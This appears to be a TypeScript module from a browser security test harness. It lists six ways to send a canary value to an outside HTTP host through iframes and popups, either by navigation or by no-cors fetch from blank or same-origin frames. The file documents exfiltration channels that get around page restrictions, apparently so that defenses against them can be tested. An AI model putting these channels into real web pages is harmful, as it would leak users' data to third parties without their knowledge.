/** Channels through another document: a frame or a popup, blank or from a file of this origin. */
import type { Channel } from "./channel.ts";

export const frameChannels = [
  {
    id: "frame",
    family: "frame",
    short: true,
    run: ({ http, canary }) => {
      const frame = document.createElement("iframe");
      frame.src = `${http}/x?${canary}`;
      document.body.append(frame);
    },
  },
  {
    id: "blank-frame-navigate",
    family: "frame",
    run: ({ http, canary }) => {
      const frame = document.createElement("iframe");
      document.body.append(frame);
      if (frame.contentWindow !== null) frame.contentWindow.location.href = `${http}/x?${canary}`;
    },
  },
  {
    id: "blank-frame-fetch",
    family: "frame",
    run: ({ http, canary }) => {
      const frame = document.createElement("iframe");
      document.body.append(frame);
      return frame.contentWindow?.fetch(`${http}/x?${canary}`, { mode: "no-cors" });
    },
  },
  {
    id: "blank-popup-fetch",
    family: "frame",
    run: ({ http, canary }) => window.open("about:blank")?.fetch(`${http}/x?${canary}`, { mode: "no-cors" }),
  },
  {
    id: "own-popup-fetch",
    family: "frame",
    short: true,
    run: ({ http, canary }) => {
      const popup = window.open("/attack-blank.html");
      const isLoaded = () =>
        popup?.location.pathname === "/attack-blank.html" && popup.document.readyState === "complete";
      const timer = setInterval(() => {
        if (!isLoaded()) return;
        clearInterval(timer);
        void popup?.fetch(`${http}/x?${canary}`, { mode: "no-cors" });
      }, 20);
    },
  },
  {
    id: "own-frame-fetch",
    family: "frame",
    run: ({ http, canary }) => {
      const frame = document.createElement("iframe");
      frame.src = "/attack-blank.html";
      frame.addEventListener("load", () => {
        void frame.contentWindow?.fetch(`${http}/x?${canary}`, { mode: "no-cors" });
      });
      document.body.append(frame);
    },
  },
] as const satisfies readonly Channel[];
